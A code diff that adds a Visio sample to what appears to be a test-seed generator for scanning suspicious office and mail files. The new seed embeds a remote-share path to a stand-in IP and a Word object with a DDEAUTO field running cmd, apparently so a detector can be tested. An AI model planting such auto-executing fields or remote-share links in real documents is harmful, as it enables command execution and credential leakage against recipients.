@@ -25,6 +25,7 @@ import {
 } from './samples.ts'
 import { vbaStreams } from './vba.ts'
 import { docxOf, field, paragraph } from './word.ts'
+import { vsdOf } from './visio-binary.ts'
 import { docField, docOf } from './word-binary.ts'
 import { book, ptg, record, u16, u8, xlsOf } from './workbook-binary.ts'
 
@@ -144,6 +145,10 @@ export function documentSeeds(): readonly { name: string; bytes: Buffer }[] {
     'mail.eml': emlOf(attached),
     'mail.msg': msgOf(attached.slice(0, 1)),
     'notes.one': oneOf(attached.slice(3)),
+    'plan.vsd': vsdOf({
+      shapes: [Buffer.from('\\\\203.0.113.9\\share\\a.vss', 'utf16le')],
+      objectParts: [docOf({ text: docField('DDEAUTO cmd "/k calc"') })],
+    }),
     'show.ppt': pptOf({
       links: ['http://example.test/'],
       programs: ['cmd'],
